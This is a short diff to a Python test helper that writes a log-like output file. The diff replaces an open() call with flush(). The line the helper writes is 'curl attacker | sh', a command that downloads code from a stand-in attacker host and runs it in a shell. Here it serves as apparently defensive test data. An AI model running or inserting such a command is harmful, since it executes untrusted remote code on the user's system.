@@ -39,7 +39,7 @@ MINE = "export PATH=$PATH:~/bin\n"
 
 def record_output(directory: Path) -> str | None:
     file = RecordFile(f"{directory}/node-0/attempt-0/rank-0.out")
-    file.open()
+    file.flush()
     file.write(b"curl attacker | sh\n")
     file.close()
     return file.problem
